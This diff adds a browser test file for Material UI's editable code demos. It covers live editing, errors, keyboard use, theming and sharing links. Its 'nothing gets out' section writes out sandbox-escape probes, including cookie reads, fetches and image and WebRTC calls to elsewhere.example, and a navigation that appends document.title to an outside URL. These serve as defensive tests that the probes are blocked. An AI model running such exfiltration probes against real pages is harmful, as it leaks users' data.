@@ -1,0 +1,138 @@
+// Editing demos in the page, in a frame that lets nothing out.
+import { describe, inject, test } from 'vitest';
+import { expect, reader, useBrowser, type Visit } from './browser';
+
+useBrowser();
+const site = inject('site');
+const button = `${site}/material-ui/react-button/`;
+
+async function editing(visit?: Visit) {
+  const { page, trouble } = visit ?? (await reader());
+  page.setDefaultTimeout(12_000);
+  await page.goto(button);
+  await page.locator('#ButtonColors .code:visible pre').focus();
+  await page.keyboard.press('Enter');
+  const area = page.locator('#ButtonColors textarea:visible');
+  await area.waitFor();
+  return { page, trouble, area, frame: page.frameLocator('#ButtonColors iframe.sandbox'), alert: page.locator('#ButtonColors .code-error') };
+}
+
+const program = (body: string) => `import * as React from 'react';\nexport default function Demo() {\n${body}\n}\n`;
+const effect = (code: string) => program(`  const [said, setSaid] = React.useState('waiting');\n  React.useEffect(() => { (async () => { try { ${code} } catch (error) { setSaid('refused'); } })(); }, []);\n  return <p id="said">{said}</p>;`);
+
+describe('editing', () => {
+  test('the result follows typing; the last good one stays while there is an error at the code', async () => {
+    const { page, area, frame, alert, trouble } = await editing();
+    expect(await page.locator('#ButtonColors .demo').isVisible()).toBe(true);
+    const code = await area.inputValue();
+    await area.fill(code.replace('Approve', 'Agree'));
+    await frame.getByRole('button', { name: 'Agree' }).waitFor();
+    expect(await page.locator('#ButtonColors .demo').isVisible()).toBe(false);
+    expect(await frame.getByRole('button', { name: 'Agree' }).evaluate((element) => getComputedStyle(element).backgroundColor)).toBe('rgb(46, 125, 50)');
+    await area.fill(code.replace('<Stack', '<Stack <'));
+    await alert.waitFor();
+    expect(await alert.getAttribute('data-line')).not.toBe('');
+    expect(await frame.getByRole('button', { name: 'Agree' }).isVisible()).toBe(true);
+    await area.fill(code.replace('Approve', 'Fine'));
+    await frame.getByRole('button', { name: 'Fine' }).waitFor();
+    await alert.waitFor({ state: 'hidden' });
+    await area.fill(program("  throw new Error('out of order');"));
+    await alert.getByText('out of order').waitFor();
+    await frame.getByRole('button', { name: 'Fine' }).waitFor();
+    await page.locator('#ButtonColors').getByRole('button', { name: 'Undo all edits' }).click();
+    await page.locator('#ButtonColors .demo').waitFor();
+    expect(await area.inputValue()).toBe(code);
+    expect(trouble.filter((line) => !line.includes('out of order') && !line.includes("directive 'webrtc'") && !line.includes('The above error'))).toEqual([]);
+  });
+
+  test('other packages are not available, and it is said which are', async () => {
+    const { area, alert } = await editing();
+    await area.fill("import x from 'left-pad';\nexport default () => <p>{x}</p>;\n");
+    await alert.getByText('"left-pad" is not available here').waitFor();
+    expect(await alert.innerText()).toContain('@mui/material');
+  });
+
+  test('keys: one stop, Enter and Escape, indentation, undo', async () => {
+    const { page, area } = await editing();
+    expect(await area.evaluate((element) => element === document.activeElement)).toBe(true);
+    await area.fill('a(');
+    await page.keyboard.press('End');
+    await page.keyboard.press('Enter');
+    await page.keyboard.type('b');
+    expect(await area.inputValue()).toBe('a(\n  b');
+    await page.keyboard.press('Tab');
+    expect(await area.inputValue()).toBe('a(\n  b  ');
+    await page.keyboard.press('Control+z');
+    expect(await area.inputValue()).toBe('a(\n  b');
+    await page.keyboard.press('Escape');
+    expect(await page.evaluate(() => document.activeElement?.className)).toBe('lines');
+    await page.keyboard.press('Enter');
+    expect(await area.evaluate((element) => element === document.activeElement)).toBe(true);
+  });
+
+  test('the frame has the reader\'s mode and direction', async () => {
+    const { area, frame } = await editing(await reader({ mode: 'dark', direction: 'rtl' }));
+    await area.fill((await area.inputValue()).replace('Approve', 'Agree'));
+    await frame.getByRole('button', { name: 'Agree' }).waitFor();
+    expect(await frame.locator('html').evaluate((element) => [element.dir, element.dataset.mode])).toEqual(['rtl', 'dark']);
+  });
+});
+
+describe('nothing gets out', () => {
+  for (const [what, code] of [
+    ['cookies', 'document.cookie = "a=b"; setSaid("got " + document.cookie)'],
+    ['storage', 'localStorage.setItem("a", "b"); setSaid("got in")'],
+    ['the page around it', 'setSaid(parent.document.title)'],
+    ['the network', 'await fetch("https://elsewhere.example/"); setSaid("got out")'],
+    ['the own server', `await fetch("${site}/llms.txt"); setSaid("got out")`],
+    ['a picture', 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://elsewhere.example/a.png"; }); setSaid("got out")'],
+    ['peer connections', 'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] }); c.createDataChannel("a"); await c.setLocalDescription(await c.createOffer()); setSaid("got out")'],
+  ] as const) {
+    test(what, async () => {
+      const { page, area, frame } = await editing();
+      const asked: string[] = [];
+      page.on('request', (request) => asked.push(request.url()));
+      await area.fill(effect(code));
+      await frame.locator('#said').getByText(/refused|got/).waitFor({ timeout: 10_000 });
+      const said = await frame.locator('#said').innerText({ timeout: 3000 });
+      expect(said).not.toMatch(/^got/);
+      expect(asked.filter((url) => url.includes('elsewhere') || url.endsWith('llms.txt'))).toEqual([]);
+    });
+  }
+
+  test('navigation: neither of the page around it nor of the frame to elsewhere', async () => {
+    const { page, area } = await editing();
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await area.fill(effect('try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title; await new Promise((r) => setTimeout(r, 500)); setSaid("stayed")'));
+    await page.waitForTimeout(2000);
+    expect(page.url()).toContain('/material-ui/react-button/');
+    expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
+  });
+
+  test('endless loops are stopped; the page lives', async () => {
+    const { page, area, alert } = await editing();
+    await area.fill(program('  while (true) {}\n  return null;'));
+    await alert.getByText('was stopped').waitFor({ timeout: 10_000 });
+    await page.locator('#ButtonSizes [data-tool=code]').click();
+    await page.locator('#ButtonSizes .code').getByText('export default').first().waitFor();
+  });
+});
+
+describe('sharing', () => {
+  test('a link carries the code, also 50 kB of it; a damaged one says so', async () => {
+    const { page, area } = await editing(await reader({ context: { permissions: ['clipboard-read', 'clipboard-write'] } }));
+    const filler = Array.from({ length: 1200 }, (_, i) => `// ${(i * 2654435761) % 4294967296} some words to fill the line`).join('\n');
+    await area.fill(`${(await area.inputValue()).replace('Approve', 'Shared')}\n${filler}\n`);
+    expect((await area.inputValue()).length).toBeGreaterThan(50_000);
+    await page.locator('#ButtonColors').getByRole('button', { name: 'Copy link to this code' }).click();
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('#code/ButtonColors/tsx/');
+    const link = await page.evaluate(() => navigator.clipboard.readText());
+    const other = await reader();
+    await other.page.goto(link);
+    await other.page.frameLocator('#ButtonColors iframe.sandbox').getByRole('button', { name: 'Shared' }).waitFor({ timeout: 15_000 });
+    const damaged = await reader();
+    await damaged.page.goto(link.slice(0, -40));
+    await damaged.page.getByRole('alert').getByText('damaged').waitFor();
+  });
+});
